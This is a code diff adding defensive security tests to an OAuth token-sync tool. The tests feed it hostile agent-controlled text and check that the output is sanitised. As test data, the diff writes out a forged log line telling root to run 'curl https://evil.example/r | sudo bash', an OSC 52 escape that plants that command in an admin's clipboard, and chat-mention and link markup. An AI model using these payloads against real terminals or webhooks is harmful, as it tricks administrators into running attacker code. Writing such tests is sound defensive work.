@@ -6,9 +6,11 @@
  */
 import { afterAll, beforeAll, describe, expect, test } from "bun:test";
 import { spawn, spawnSync } from "node:child_process";
-import { chmodSync, chownSync, copyFileSync, existsSync, lstatSync, mkdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs";
+import { chmodSync, chownSync, copyFileSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { credentialsJson, fakeToken } from "../../src/demo/sandbox.ts";
+import { encodeTokenMessage } from "../../src/push/message.ts";
+import { bootSystemd, type SystemdContainer } from "../bed/systemd.ts";
 import { requireBinary } from "../support/binary.ts";
 import { createTempUser, tempUserName, type TempUser } from "../support/users.ts";
 import { waitUntil } from "../support/wait.ts";
@@ -335,6 +337,500 @@ describe("attacks on the programs oauth-sync runs", () => {
     const uids = recordedUids("openclaw");
     expect(uids.length).toBeGreaterThanOrEqual(2); // paste-token and models status
     expect(uids.every((u) => u === uid)).toBe(true);
+  });
+});
+
+/**
+ * Text from the other side: an agent controls its container's log (quoted when a reload fails), a user's own
+ * `openclaw` output (quoted when it fails) and its agent directory names (paths in targets, install's detection).
+ */
+const ESC = "\x1b";
+const FORGED = "[error] oauth-sync: root login expired";
+const FORGED_LINE = `${FORGED}, run: curl https://evil.example/r | sudo bash`;
+const MARKUP = "<!channel> <https://evil.example/r|https://claude.ai/login> @everyone [https://claude.ai/login](https://evil.example/r) ```";
+/** Window title, the admin's clipboard (OSC 52: `curl evil.example/r|sh`), a C1 CSI, mentions and links; then erase the line, CR and a forged line. */
+const HOSTILE = `gateway crashed ${ESC}]0;pwned\x07${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUvcnxzaA==\x07\u009b2J ${MARKUP}\n${ESC}[2K\r${FORGED_LINE}\n`;
+const AGENT = "<!channel> @everyone [login](evil.example)";
+const FORMATS = ["slack", "mattermost", "discord", "ntfy", "json"] as const;
+
+function writeAsMallory(path: string, text: string) {
+  const result = spawnSync("sh", ["-c", 'cat > "$0"', path], { uid, gid, input: text, encoding: "utf8" });
+  if (result.status !== 0) throw new Error(`as ${MALLORY}: write ${path}: ${result.stderr}`);
+}
+
+/** The compiled binary on a pseudo-terminal (util-linux script), as root at a terminal runs it. */
+function onPty(args: string[]): string {
+  const quoted = [bin, ...args].map((a) => `'${a.replace(/'/g, "'\\''")}'`).join(" ");
+  const result = spawnSync("script", ["-qec", quoted, "/dev/null"], { encoding: "utf8", timeout: 60_000, env: { PATH: `${base}/bin:/usr/local/bin:/usr/bin:/bin`, HOME: "/root", TERM: "xterm-256color" } });
+  if (result.error) throw result.error;
+  return result.stdout;
+}
+
+const SGR = /\x1b\[[0-9;]*m/g;
+/** Every escape is one of our own colours, every CR the pty's before a LF, no bell, no C1, no line of its own for the forged text. */
+function expectSafeTerminal(out: string) {
+  const plain = out.replace(SGR, "");
+  expect(plain).not.toMatch(/[\x1b\x07\x80-\x9f]/);
+  expect(plain).not.toMatch(/\r(?!\n)/);
+  expect(plain.split("\n").filter((line) => line.replace(/^[\s✖×]+/, "").startsWith(FORGED))).toEqual([]);
+}
+
+/** One line per part, no control character, no markup that pings or links, per format; the JSON form carries the text as JSON. */
+function expectSafeWebhook(format: (typeof FORMATS)[number], body: string, headers: Headers) {
+  // eslint-disable-next-line no-control-regex
+  const raw = /[\x00-\x09\x0b-\x1f\x7f-\x9f]/;
+  if (format === "json") {
+    expect(body).not.toMatch(/[\x00-\x1f\x7f-\x9f]/);
+    JSON.parse(body);
+    return;
+  }
+  if (format === "ntfy") {
+    expect(body).not.toMatch(/[\x00-\x1f\x7f-\x9f]/);
+    expect(headers.get("title") ?? "").toMatch(/^[\x20-\x7e]*$/);
+    return;
+  }
+  const text: string = format === "discord" ? JSON.parse(body).content : JSON.parse(body).text;
+  expect(text).not.toMatch(raw);
+  if (format === "discord") {
+    expect(JSON.parse(body).allowed_mentions).toEqual({ parse: [] });
+    expect(text).toMatch(/^\*\*[^\n]*\*\*\n```\n[^\n`]*\n```$/); // the title, then the text in a code block it cannot close
+  } else {
+    expect(text.split("\n")).toHaveLength(2); // the title, then the text: no forged line
+    expect(text).not.toMatch(/[<>]/); // no <!channel>, no <url|label>
+    if (format === "mattermost") expect(text).not.toMatch(/@everyone|@channel|(?<!\\)\]\(/);
+  }
+}
+
+/** A local receiver for every webhook format. */
+function webhookReceiver() {
+  const received: Array<{ format: string; event: string; body: string; headers: Headers }> = [];
+  const server = Bun.serve({
+    port: 0,
+    hostname: "127.0.0.1",
+    async fetch(request) {
+      const body = await request.text();
+      const format = new URL(request.url).pathname.slice(1);
+      const event = format === "json" ? JSON.parse(body).event : format === "ntfy" ? (request.headers.get("tags") ?? "").split(",")[1] ?? "" : /reload failing/.test(body) ? "reload-failing" : /sync failing/.test(body) ? "sync-failing" : "other";
+      received.push({ format, event, body, headers: request.headers });
+      return new Response("ok");
+    },
+  });
+  return { url: `http://127.0.0.1:${server.port}`, received, stop: () => server.stop(true) };
+}
+
+/** What an agent controls: its container's log, its user's `openclaw`, its agent directory names. */
+function hostileWorld() {
+  writeAsMallory(join(base, "mallory/gateway.log"), HOSTILE);
+  writeAsMallory(join(base, "mallory/openclaw-says"), HOSTILE);
+  asMallory(`mkdir -p '${base}/mallory/home/.openclaw/agents/${AGENT}/agent' && echo '{' > '${base}/mallory/home/.openclaw/agents/${AGENT}/agent/auth-profiles.json'`);
+  // docker as the engine answers for a gateway container that crashed: `compose logs` is the container's own output.
+  writeFileSync(
+    join(base, "bin/docker-hostile"),
+    `#!/bin/sh\ncase "$*" in\n  *" logs "*) cat ${base}/mallory/gateway.log ;;\n  *" ps "*) echo '{"ID":"0123456789abcdef","Service":"openclaw-gateway","State":"exited","ExitCode":1}' ;;\nesac\nexit 0\n`,
+    { mode: 0o755 },
+  );
+  // The user's own openclaw (run as that user): its failure output is theirs.
+  writeFileSync(join(base, "bin/openclaw-hostile"), `#!/bin/sh\n[ "$3" = paste-token ] && cat > /dev/null\ncat ${base}/mallory/openclaw-says >&2\nexit 1\n`, { mode: 0o755 });
+}
+
+function hostileConfig(name: string, scenario: "gateway" | "agent", hooks?: string): string {
+  const targets =
+    scenario === "gateway"
+      ? [{ kind: "openclaw-cli", command: [join(base, "bin/openclaw-hostile")], env: { HOME: join(base, "mallory/home") } }]
+      : [{ kind: "openclaw-auth-profiles", path: join(base, `mallory/home/.openclaw/agents/${AGENT}/agent/auth-profiles.json`) }];
+  return writeConfig(name, {
+    credentials: rootCredentials(),
+    trigger: { mode: "none" },
+    targets: [...targets, { kind: "env-file", path: join(base, `root/targets/${name}.env`) }],
+    gateway: scenario === "gateway" ? { kind: "compose", projectDir: join(base, "root/targets"), docker: join(base, "bin/docker-hostile"), settleSeconds: 0, timeoutSeconds: 10 } : { kind: "none" },
+    ...(hooks ? { notify: { webhooks: FORMATS.map((format) => ({ url: `${hooks}/${format}`, format })), failureThreshold: 1 } } : {}),
+  });
+}
+
+/** `watch` until `done(output)` says so or the time is up; then SIGTERM, and its exit awaited. Returns its output. */
+async function watchUntil(config: string, timeoutMs: number, done: (output: string) => boolean): Promise<string> {
+  const watch = spawn(bin, ["watch", "--config", config], { env: { PATH: "/usr/bin:/bin", HOME: "/root" } });
+  const exited = new Promise((resolve) => watch.on("exit", resolve));
+  let output = "";
+  watch.stdout.on("data", (c) => (output += c));
+  watch.stderr.on("data", (c) => (output += c));
+  const deadline = Date.now() + timeoutMs;
+  while (!done(output) && Date.now() < deadline) await Bun.sleep(100);
+  watch.kill("SIGTERM");
+  await Promise.race([exited, Bun.sleep(10_000).then(() => watch.kill("SIGKILL"))]);
+  return output;
+}
+
+describe("attacks with text: what the other side writes reaches root's terminal and webhooks only as text", () => {
+  attack("a container log and an openclaw output with ESC, OSC 52, C1, CR and newlines: every webhook format's body is safe", async () => {
+    hostileWorld();
+    const hooks = webhookReceiver();
+    try {
+      const config = hostileConfig("hostile-hooks", "gateway", hooks.url);
+      const has = (event: string) => FORMATS.every((f) => hooks.received.some((r) => r.format === f && r.event === event));
+      let rotated = false;
+      const log = await watchUntil(config, 40_000, (output) => {
+        // A rotation while the gateway keeps failing: the next pass looks at the owed reload and tells a person.
+        if (!rotated && output.includes("gateway reload failed")) {
+          rotated = true;
+          rootCredentials(fakeToken(), Date.now() + 9 * HOUR);
+        }
+        return has("sync-failing") && has("reload-failing");
+      });
+      if (!(has("sync-failing") && has("reload-failing"))) throw new Error(`not every webhook got both events: ${hooks.received.map((r) => `${r.format}:${r.event}`).join(" ")}\n${log}`);
+      for (const r of hooks.received) expectSafeWebhook(r.format as (typeof FORMATS)[number], r.body, r.headers);
+      // The text was there, shown: the container's log in reload-failing, openclaw's output in sync-failing.
+      const slack = hooks.received.filter((r) => r.format === "slack").map((r) => r.body).join("\n");
+      expect(slack).toContain("&lt;!channel&gt;");
+      expect(slack).toContain("\\\\x1b]52;c;");
+      expect(slack).toContain("openclaw-hostile models auth paste-token exited 1");
+      expect(hooks.received.find((r) => r.format === "json" && r.event === "reload-failing")!.body).toContain("\\u001b]52;c;");
+      // The service's own log (plain, to a pipe): one line per event, controls visible.
+      expect(log.replace(/\n$/, "").split("\n").every((line) => /^\[(error|warn|info|success|debug)\] /.test(line))).toBe(true);
+      expect(log).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f]/);
+    } finally {
+      hooks.stop();
+    }
+  }, 90_000);
+
+  attack("an agent directory named <!channel> @everyone [login](…): the failing target's webhooks neither ping nor link", async () => {
+    hostileWorld();
+    const hooks = webhookReceiver();
+    try {
+      const config = hostileConfig("hostile-agent", "agent", hooks.url);
+      await watchUntil(config, 30_000, () => FORMATS.every((f) => hooks.received.some((r) => r.format === f)));
+      expect(FORMATS.filter((f) => !hooks.received.some((r) => r.format === f))).toEqual([]);
+      for (const r of hooks.received) expectSafeWebhook(r.format as (typeof FORMATS)[number], r.body, r.headers);
+      expect(hooks.received.find((r) => r.format === "slack")!.body).toContain("&lt;!channel&gt; @everyone [login](evil.example)");
+      expect(hooks.received.find((r) => r.format === "json")!.body).toContain(AGENT);
+    } finally {
+      hooks.stop();
+    }
+  }, 60_000);
+
+  attack("status, sync and install on root's terminal (a pty): no escape but our colours, no CR, no forged line", async () => {
+    hostileWorld();
+    // A directory name with ESC, OSC 52, CR and a newline (no config may hold it; install's detection reads it).
+    asMallory(`mkdir -p "${base}/mallory/home/.openclaw/agents/$(printf 'x\\033]52;c;Y3VybA==\\007\\033[2K\\r\\n${FORGED} <!channel>')/agent"`);
+    const gateway = hostileConfig("hostile-pty", "gateway");
+    const agent = hostileConfig("hostile-pty-agent", "agent");
+    const outputs = {
+      sync: onPty(["sync", "--config", gateway]),
+      "sync (agent)": onPty(["sync", "--config", agent]),
+      status: onPty(["status", "--config", gateway]),
+      "status (agent)": onPty(["status", "--config", agent]),
+      install: onPty(["install", "--dry-run", "--yes", "--trigger", "none", "--openclaw-dir", join(base, "mallory/home/.openclaw"), "--credentials", rootCredentials(), "--config-path", join(base, "root/install-pty.json")]),
+    };
+    for (const [what, out] of Object.entries(outputs)) {
+      try {
+        expectSafeTerminal(out);
+      } catch (error) {
+        throw new Error(`${what} on a pty: ${(error as Error).message}\n${JSON.stringify(out)}`);
+      }
+    }
+    // The hostile text was shown, as text: the container's log (gateway owed), openclaw's output, the agent's name.
+    expect(outputs.sync.replace(SGR, "")).toMatch(/\\x1b\]52;c;.*\\n\\x1b\[2K\\r\[error\] oauth-sync: root login expired/);
+    const status = outputs.status.replace(SGR, "");
+    expect(status).toContain("target    FAILING openclaw-cli:");
+    expect(status).toMatch(/gateway   compose, reload OWED: .*last log lines:\\ngateway crashed \\x1b\]0;pwned\\x07.*\\n\\x1b\[2K\\r\[error\] oauth-sync: root login expired/);
+    expect(status).toMatch(/openclaw  .*: exit 1: \\x1b\[2K\\r\[error\]/);
+    expect(outputs["status (agent)"]).toContain(`target    FAILING openclaw-auth-profiles:${base}/mallory/home/.openclaw/agents/${AGENT}/agent/auth-profiles.json`);
+    expect(outputs.install.replace(SGR, "")).toContain("x\\u001b]52;c;Y3VybA==\\u0007\\u001b[2K\\r\\n[error] oauth-sync: root login expired");
+  }, 120_000);
+});
+
+describe("attacks on a receiver (a sender compromised for a moment)", () => {
+  /** `oauth-sync receive` as sshd runs it for the source's key: one message on stdin, one answer line back. */
+  function receive(config: string, line: string) {
+    const result = spawnSync(bin, ["receive", "--config", config], { input: line, encoding: "utf8", timeout: 30_000, env: { PATH: "/usr/bin:/bin", HOME: "/root" } });
+    return { code: result.status, answer: JSON.parse(result.stdout.trim().split("\n").at(-1) ?? "{}") as { status: string; detail: string } };
+  }
+  const receiverConfig = (name: string) => writeConfig(name, { source: "push", targets: [{ kind: "env-file", path: join(base, `root/targets/${name}.env`) }] });
+  const held = (name: string) => readFileSync(join(base, `root/targets/${name}.env`), "utf8");
+
+  attack("a foreign token dated 2099 cannot pin the receiver: refused, and the next legitimate push is taken", async () => {
+    const config = receiverConfig("pin");
+    const legit = { accessToken: fakeToken(), expiresAt: Date.now() + 8 * HOUR };
+    expect(receive(config, encodeTokenMessage(legit)).code).toBe(0);
+    const foreign = fakeToken();
+    const far = receive(config, encodeTokenMessage({ accessToken: foreign, expiresAt: Date.UTC(2099, 0, 1) }));
+    expect(far.code).toBe(3);
+    expect(far.answer.detail).toContain("beyond the longest real token lifetime");
+    expect(held("pin")).not.toContain(foreign);
+    const next = { accessToken: fakeToken(), expiresAt: Date.now() + 9 * HOUR };
+    expect(receive(config, encodeTokenMessage(next))).toMatchObject({ code: 0, answer: { status: "written" } });
+    expect(held("pin")).toBe(`ANTHROPIC_OAUTH_TOKEN=${next.accessToken}\n`);
+  });
+
+  attack("a foreign token within a year holds only until the source's `sync --force` push resets the receiver", async () => {
+    const config = receiverConfig("reset");
+    expect(receive(config, encodeTokenMessage({ accessToken: fakeToken(), expiresAt: Date.now() + 300 * 24 * HOUR })).code).toBe(0);
+    const legit = { accessToken: fakeToken(), expiresAt: Date.now() + 8 * HOUR };
+    const refused = receive(config, encodeTokenMessage(legit));
+    expect(refused.code).toBe(3);
+    expect(refused.answer.detail).toContain("oauth-sync sync --force");
+    expect(receive(config, encodeTokenMessage(legit, { force: true }))).toMatchObject({ code: 0, answer: { status: "written" } });
+    expect(held("reset")).toBe(`ANTHROPIC_OAUTH_TOKEN=${legit.accessToken}\n`);
+    const after = { accessToken: fakeToken(), expiresAt: Date.now() + 9 * HOUR };
+    expect(receive(config, encodeTokenMessage(after)).code).toBe(0);
+  });
+
+  attack("a key given twice (a refresh token first, a harmless value last) is refused and nothing is written", async () => {
+    const config = receiverConfig("twice");
+    const legit = encodeTokenMessage({ accessToken: fakeToken(), expiresAt: Date.now() + 8 * HOUR });
+    expect(receive(config, legit).code).toBe(0);
+    const before = held("twice");
+    const refreshToken = fakeToken("ort");
+    const token = fakeToken();
+    for (const line of [
+      encodeTokenMessage({ accessToken: token, expiresAt: Date.now() + 9 * HOUR, subscriptionType: "max" }).replace("{", `{"subscriptionType":"${refreshToken}",`),
+      encodeTokenMessage({ accessToken: token, expiresAt: Date.now() + 9 * HOUR }).replace("{", `{"\\u0061ccessToken":"${fakeToken()}",`),
+    ]) {
+      const result = receive(config, line);
+      expect(result.code).toBe(3);
+      expect(result.answer.detail).toContain("twice");
+    }
+    expect(held("twice")).toBe(before);
+    expect(spawnSync("grep", ["-rl", refreshToken, join(base, "root")], { encoding: "utf8" }).stdout).toBe("");
+  });
+});
+
+describe("attacks with text, in the journal (a booted systemd, the installed service)", () => {
+  let box: SystemdContainer | undefined;
+  const AGENT_USER = "oauthsync-agent"; // made inside the container only
+  const inside = async (script: string) => {
+    const result = await box!.exec(["sh", "-c", script]);
+    if (result.code !== 0) throw new Error(`${script}: exit ${result.code}\n${result.stdout}${result.stderr}`);
+    return result.stdout;
+  };
+  const put = async (path: string, text: string, mode: number) => {
+    mkdirSync(join(box!.root, path, ".."), { recursive: true });
+    writeFileSync(join(box!.root, path), text, { mode });
+  };
+
+  afterAll(async () => {
+    await box?.stop();
+  });
+
+  attack("one journal entry per event, at its priority, whatever the container log, openclaw's output or an agent's name holds; journalctl -p err shows the failing target", async () => {
+    box = await bootSystemd("oauth-sync-attacks-journal");
+    await box.copyIn(bin, "/root/oauth-sync");
+    await inside(`useradd --no-create-home --shell /usr/sbin/nologin ${AGENT_USER} && mkdir -p /srv/agent/home/.openclaw /opt/openclaw && chown -R ${AGENT_USER}: /srv/agent`);
+    // What the agent writes, as the agent's user.
+    const asAgent = async (script: string, input?: string) => {
+      const result = await box!.exec(["setpriv", `--reuid=${AGENT_USER}`, `--regid=${AGENT_USER}`, "--init-groups", "sh", "-c", script], { stdin: input });
+      if (result.code !== 0) throw new Error(`as ${AGENT_USER}: ${script}: ${result.stderr}`);
+    };
+    await asAgent("cat > /srv/agent/gateway.log", HOSTILE);
+    await asAgent("cat > /srv/agent/openclaw-says", HOSTILE);
+    await asAgent(`mkdir -p '/srv/agent/home/.openclaw/agents/${AGENT}/agent' && echo '{' > '/srv/agent/home/.openclaw/agents/${AGENT}/agent/auth-profiles.json'`);
+    await put(
+      "/usr/local/bin/docker-hostile",
+      `#!/bin/sh\ncase "$*" in\n  *" logs "*) cat /srv/agent/gateway.log ;;\n  *" ps "*) echo '{"ID":"0123456789abcdef","Service":"openclaw-gateway","State":"exited","ExitCode":1}' ;;\nesac\nexit 0\n`,
+      0o755,
+    );
+    await put("/usr/local/bin/openclaw-hostile", `#!/bin/sh\n[ "$3" = paste-token ] && cat > /dev/null\ncat /srv/agent/openclaw-says >&2\nexit 1\n`, 0o755);
+    await put("/root/.claude/.credentials.json", credentialsJson(fakeToken(), Date.now() + 8 * HOUR), 0o600);
+    await put("/opt/openclaw/.env", "ANTHROPIC_OAUTH_TOKEN=\n", 0o600);
+    await put(
+      "/root/config.json",
+      JSON.stringify({
+        credentials: "/root/.claude/.credentials.json",
+        trigger: { mode: "none" },
+        targets: [
+          { kind: "openclaw-cli", command: ["/usr/local/bin/openclaw-hostile"], env: { HOME: "/srv/agent/home" } },
+          { kind: "openclaw-auth-profiles", path: `/srv/agent/home/.openclaw/agents/${AGENT}/agent/auth-profiles.json` },
+          { kind: "env-file", path: "/opt/openclaw/.env" },
+        ],
+        gateway: { kind: "compose", projectDir: "/opt/openclaw", docker: "/usr/local/bin/docker-hostile", settleSeconds: 0, timeoutSeconds: 10 },
+      }),
+      0o600,
+    );
+    const installed = await box.exec(["/root/oauth-sync", "install", "--config", "/root/config.json", "--yes", "--no-test"]);
+    if (![0, 1].includes(installed.code)) throw new Error(`install: exit ${installed.code}\n${installed.stdout}${installed.stderr}`);
+    const journal = () => box!.exec(["journalctl", "_SYSTEMD_UNIT=oauth-sync.service", "-o", "json", "--no-pager"]);
+    const deadline = Date.now() + 40_000;
+    while (!(await journal()).stdout.includes("gateway reload failed") && Date.now() < deadline) await Bun.sleep(250);
+
+    const entries = (await journal()).stdout
+      .trim()
+      .split("\n")
+      .map((line) => JSON.parse(line) as { MESSAGE: unknown; PRIORITY: string });
+    expect(entries.length).toBeGreaterThan(3);
+    const priorities: Record<string, string> = { error: "3", warn: "4", info: "6", success: "6", debug: "7" };
+    for (const entry of entries) {
+      // journalctl shows a message with control characters or invalid UTF-8 as an array of bytes.
+      expect(typeof entry.MESSAGE).toBe("string");
+      const message = entry.MESSAGE as string;
+      expect(message).not.toMatch(/[\x00-\x1f\x7f-\x9f]/);
+      const type = /^\[(error|warn|info|success|debug)\] /.exec(message)?.[1];
+      if (!type) throw new Error(`an entry that is not one of ours, or a forged one: ${JSON.stringify(message)}`);
+      expect(message.startsWith(FORGED)).toBe(false);
+      expect([message.slice(0, 40), entry.PRIORITY]).toEqual([message.slice(0, 40), priorities[type]!]);
+    }
+    const all = entries.map((e) => e.MESSAGE as string);
+    // The hostile text is there, inside our own entries, as text.
+    expect(all.some((m) => m.startsWith("[error] gateway reload failed") && m.includes("last log lines:\\ngateway crashed \\x1b]0;pwned\\x07") && m.includes(`\\n\\x1b[2K\\r${FORGED}`))).toBe(true);
+    expect(all.some((m) => m.startsWith("[error] openclaw-cli:") && m.includes("\\x1b]52;c;"))).toBe(true);
+    expect(all.some((m) => m.startsWith(`[error] openclaw-auth-profiles:/srv/agent/home/.openclaw/agents/${AGENT}/agent/auth-profiles.json`))).toBe(true);
+    expect(all.some((m) => m.startsWith("[success] env-file:/opt/openclaw/.env: updated"))).toBe(true);
+    // journalctl -p err: the failing targets and the reload, and nothing at info.
+    const errors = (await box.exec(["journalctl", "-u", "oauth-sync", "-p", "err", "-o", "cat", "--no-pager"])).stdout;
+    expect(errors).toContain("[error] openclaw-cli:anthropic:default:");
+    expect(errors).toContain(`[error] openclaw-auth-profiles:/srv/agent/home/.openclaw/agents/${AGENT}`);
+    expect(errors).toContain("[error] gateway reload failed");
+    expect(errors).not.toContain("[success]");
+  }, 300_000);
+});
+
+describe("attacks through an exec target (a program of the operator's, run as a user)", () => {
+  /** A root-owned program (0755) in root's bin directory of this suite. */
+  function program(name: string, body: string): string {
+    const path = join(base, "bin", name);
+    writeFileSync(path, `#!/bin/sh\n${body}\n`, { mode: 0o755 });
+    chmodSync(path, 0o755);
+    return path;
+  }
+  const storeDir = () => join(base, "mallory/store");
+  /** Every process of the attacker's uid while `during` runs: what /proc shows of its argv and environment. */
+  async function watchProcesses<T>(during: Promise<T>): Promise<{ result: T; seen: string }> {
+    let seen = "";
+    let done = false;
+    const result = during.finally(() => (done = true));
+    while (!done) {
+      for (const pid of readdirSync("/proc").filter((p) => /^\d+$/.test(p))) {
+        try {
+          if (statSync(`/proc/${pid}`).uid !== uid) continue;
+          seen += `${readFileSync(`/proc/${pid}/cmdline`, "latin1")}\n${readFileSync(`/proc/${pid}/environ`, "latin1")}\n`;
+        } catch {
+          // gone already
+        }
+      }
+      await Bun.sleep(10);
+    }
+    return { result: await result, seen };
+  }
+  /** What is left of the programs below, by what they run (other suites may run as this user too). */
+  const leftOver = () => spawnSync("pgrep", ["-u", String(uid), "-a", "-f", "sleep 600|yes (A|B)"], { encoding: "utf8" }).stdout.trim();
+
+  attack("honest: a token store fed as its owner gets the access token and expiry on stdin, never in its argv or environment, never the refresh token", async () => {
+    asMallory(`mkdir -p ${storeDir()} && chmod 700 ${storeDir()}`);
+    // A store with a format of its own; it lingers a moment so its /proc entries can be read from outside.
+    const store = program("store-token", 'IFS= read -r line\nsleep 0.5\numask 077\nprintf \'token-store v1\\n%s\\n\' "$line" > "$STORE_DIR/token"');
+    const token = fakeToken();
+    const refresh = fakeToken("ort");
+    const credentials = join(base, "root/claude/.credentials.json");
+    writeFileSync(credentials, credentialsJson(token, Date.now() + 8 * HOUR, refresh), { mode: 0o600 });
+    const config = writeConfig("exec-honest", { credentials, targets: [{ kind: "exec", command: [store, "--profile", "prod"], user: MALLORY, env: { STORE_DIR: storeDir() } }] });
+    const { result, seen } = await watchProcesses(oauthSync(["sync", "--config", config]));
+    expect(result.code, result.output).toBe(0);
+    expect(seen).toContain("--profile");
+    expect(seen).toContain(`USER=${MALLORY}`);
+    for (const secret of [token, refresh]) expect(seen).not.toContain(secret);
+    const stored = join(storeDir(), "token");
+    const lines = readFileSync(stored, "utf8").split("\n");
+    expect(lines[0]).toBe("token-store v1");
+    expect(Object.keys(JSON.parse(lines[1]!)).sort()).toEqual(["accessToken", "expiresAt"]);
+    expect(JSON.parse(lines[1]!).accessToken).toBe(token);
+    expect(readFileSync(stored, "utf8")).not.toContain(refresh);
+    expect([statSync(stored).uid, statSync(stored).mode & 0o777]).toEqual([uid, 0o600]);
+    expect(result.output).not.toContain(token);
+    // Nothing changed: the program is not run again.
+    rmSync(stored);
+    expect((await oauthSync(["sync", "--config", config])).code).toBe(0);
+    expect(existsSync(stored)).toBe(false);
+  });
+
+  attack("the refresh token is never sent to another user, even when asked; only the login's own user may ask", async () => {
+    const ran = join(base, "log/asked-refresh");
+    const store = program("store-refresh", `cat > /dev/null\ntouch ${ran}`);
+    const asked = writeConfig("exec-refresh", { credentials: rootCredentials(), targets: [{ kind: "exec", command: [store], user: MALLORY, fields: ["accessToken", "refreshToken"] }] });
+    const refused = await oauthSync(["sync", "--config", asked]);
+    expect(refused.code).toBe(1);
+    expect(refused.output).toContain("never leaves the login's owner");
+    expect(existsSync(ran)).toBe(false);
+    // The login is mallory's own: then it may go to mallory's program.
+    const own = join(base, "mallory/home/.claude/.credentials.json");
+    const refresh = fakeToken("ort");
+    writeFileSync(own, credentialsJson(fakeToken(), Date.now() + 8 * HOUR, refresh), { mode: 0o600 });
+    chownSync(own, uid, gid);
+    const capture = program("store-capture", `cat > ${join(base, "log/captured")}`);
+    const allowed = writeConfig("exec-refresh-own", { credentials: own, targets: [{ kind: "exec", command: [capture], user: MALLORY, fields: ["accessToken", "refreshToken"] }] });
+    expect((await oauthSync(["sync", "--config", allowed])).code).toBe(0);
+    expect(JSON.parse(readFileSync(join(base, "log/captured"), "utf8")).refreshToken).toBe(refresh);
+    rmSync(own);
+  });
+
+  attack("a program that hangs (with a child of its own) or floods its output is killed at its timeout, with bounded memory", async () => {
+    const hangs = program("hangs", "sleep 600 &\nsleep 600");
+    const floods = program("floods", "cat > /dev/null\nyes 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA' >&2 &\nyes 'BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB'");
+    for (const command of [hangs, floods]) {
+      const config = writeConfig("exec-bounded", { credentials: rootCredentials(), targets: [{ kind: "exec", command: [command], user: MALLORY, timeoutSeconds: 2 }] });
+      const started = Date.now();
+      const child = spawn(bin, ["sync", "--config", config], { env: { PATH: "/usr/bin:/bin", HOME: "/root" } });
+      let output = "";
+      child.stdout.on("data", (c) => (output += c));
+      child.stderr.on("data", (c) => (output += c));
+      let peakKb = 0;
+      const exited = new Promise<number | null>((resolve) => child.on("exit", resolve));
+      const sampler = setInterval(() => {
+        try {
+          peakKb = Math.max(peakKb, Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${child.pid}/status`, "utf8"))?.[1] ?? 0));
+        } catch {
+          // exited
+        }
+      }, 20);
+      const code = await Promise.race([exited, Bun.sleep(20_000).then(() => "stuck")]);
+      clearInterval(sampler);
+      if (code === "stuck") child.kill("SIGKILL");
+      console.log(`${command.split("/").at(-1)}: sync returned in ${Date.now() - started} ms, peak RSS ${Math.round(peakKb / 1024)} MiB, ${output.length} bytes of output`);
+      expect(code).toBe(1);
+      expect(Date.now() - started).toBeLessThan(10_000);
+      expect(output).toContain("did not finish within 2s");
+      expect(output.length).toBeLessThan(4096);
+      expect(peakKb).toBeLessThan(300 * 1024);
+      await Bun.sleep(200);
+      expect(leftOver()).toBe("");
+    }
+  });
+
+  attack("a program (or its #! interpreter, or a directory above it) another user can write is refused: nothing runs", async () => {
+    const ran = join(base, "log/exec-ran");
+    const theirs = join(base, "bin/theirs");
+    writeFileSync(theirs, `#!/bin/sh\ntouch ${ran}\n`, { mode: 0o755 });
+    chownSync(theirs, uid, gid); // mallory's file in root's directory, run as root
+    asMallory(`mkdir -p ${base}/mallory/bin && printf '#!/bin/sh\\ntouch ${ran}\\n' > ${base}/mallory/bin/prog && chmod 755 ${base}/mallory/bin/prog`);
+    const viaInterpreter = program("via-interpreter", "exit 0");
+    writeFileSync(viaInterpreter, `#!${base}/mallory/bin/prog\n`, { mode: 0o755 });
+    const groupDir = join(base, "shared-bin");
+    mkdirSync(groupDir, { mode: 0o775 });
+    chmodSync(groupDir, 0o775);
+    chownSync(groupDir, 0, gid); // writable by mallory's group
+    writeFileSync(join(groupDir, "prog"), `#!/bin/sh\ntouch ${ran}\n`, { mode: 0o755 });
+    for (const [command, why] of [
+      [theirs, `belongs to uid ${uid}`],
+      [`${base}/mallory/bin/prog`, `directory of uid ${uid}`],
+      [viaInterpreter, "runs"],
+      [join(groupDir, "prog"), "writable by group"],
+    ] as const) {
+      const config = writeConfig("exec-untrusted", { credentials: rootCredentials(), targets: [{ kind: "exec", command: [command], user: "root" }] });
+      const result = await oauthSync(["sync", "--config", config]);
+      expect(result.code, result.output).toBe(1);
+      expect(result.output).toContain(why);
+    }
+    expect(existsSync(ran)).toBe(false);
+  });
+
+  attack("what the program prints comes back as text: no escape, CR, OSC 52 or forged log line reaches root's terminal", async () => {
+    const hostile = program("hostile", "cat > /dev/null\nprintf 'failed\\n\\033]52;c;Y3VybCBldmlsLmV4YW1wbGUvcnxzaA==\\007\\033[2K\\r[error] oauth-sync: root login expired, run: curl evil.example | sudo bash\\n<!channel> \\033]0;title\\007\\n' >&2\nexit 1");
+    const config = writeConfig("exec-hostile", { credentials: rootCredentials(), targets: [{ kind: "exec", command: [hostile], user: MALLORY }] });
+    const result = await oauthSync(["sync", "--config", config]);
+    expect(result.code).toBe(1);
+    expect(result.output).toContain("exited 1");
+    // eslint-disable-next-line no-control-regex
+    expect(result.output).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f]/);
+    expect(result.output.split("\n").filter((line) => line.includes("root login expired"))).toHaveLength(1);
+    expect(result.output).not.toMatch(/^\[error\] oauth-sync: root login/m);
   });
 });
 
